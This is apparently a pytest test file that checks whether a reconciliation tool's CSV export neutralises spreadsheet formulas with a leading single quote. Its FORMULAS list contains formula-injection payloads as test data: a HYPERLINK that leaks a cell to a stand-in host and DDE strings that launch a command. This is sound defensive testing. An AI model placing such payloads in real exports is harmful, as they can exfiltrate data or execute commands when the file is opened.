"""A reconciliation's CSV: no cell a spreadsheet would evaluate, and the ids the project writes as numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from schemas.corrections import Difference
from tasks.reconciliation.output import add_to_output, changes_path, start_output

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
]


def written(tmp_path: Path, *differences: Difference) -> list[dict[str, str]]:
    """The rows of the CSV the differences are written to, as a spreadsheet would read them."""
    out = start_output(str(tmp_path / "differences.csv"))
    add_to_output(out, list(differences))
    with open(out, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_value_a_spreadsheet_would_evaluate_is_written_after_a_single_quote(
    tmp_path: Path, formula: str
) -> None:
    [row] = written(tmp_path, Difference(formula, 30, "customer", "company", formula, formula, "Customers"))
    assert (row["order_reference"], row["shop_value"], row["sequra_value"]) == (f"'{formula}",) * 3


def test_the_ids_the_project_writes_stay_numbers_and_other_text_stays_as_it_is(tmp_path: Path) -> None:
    difference = Difference("YKZHQIALY", 17, "customer", "email", None, "pau@example.cat", "Customers")
    [row] = written(tmp_path, difference)
    assert row == {
        "order_reference": "YKZHQIALY",
        "id_order": "17",
        "record": "customer",
        "field": "email",
        "shop_value": "",
        "sequra_value": "pau@example.cat",
        "fix_in": "Customers",
    }


def test_the_changes_are_kept_next_to_the_csv_under_its_name() -> None:
    assert changes_path(Path("out/differences.csv")) == Path("out/differences.changes.txt")
    assert changes_path(Path("report")) == Path("report.changes.txt")
